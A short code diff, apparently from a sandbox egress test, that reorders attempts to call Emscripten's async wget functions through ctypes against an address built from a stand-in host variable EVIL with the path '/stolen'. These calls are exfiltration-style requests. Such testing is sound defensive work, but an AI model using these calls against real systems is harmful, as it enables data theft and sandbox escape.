@@ -2,12 +2,9 @@
 import ctypes
 
 library = ctypes.CDLL(None)
-callback = ctypes.CFUNCTYPE(None)(lambda *rest: None)
+callback = ctypes.CFUNCTYPE(None)(lambda: None)
 address = (EVIL + "/stolen").encode()
-await attempt(
-    "wget_data", lambda: library.emscripten_async_wget_data(address, None, callback, callback)
-)
-await asyncio.sleep(0.3)
+print("tried")
 await attempt(
     "wget2",
     lambda: library.emscripten_async_wget2(
@@ -15,4 +12,7 @@ await attempt(
     ),
 )
 await asyncio.sleep(0.3)
-print("tried")
+await attempt(
+    "wget_data", lambda: library.emscripten_async_wget_data(address, None, callback, callback)
+)
+await asyncio.sleep(0.3)
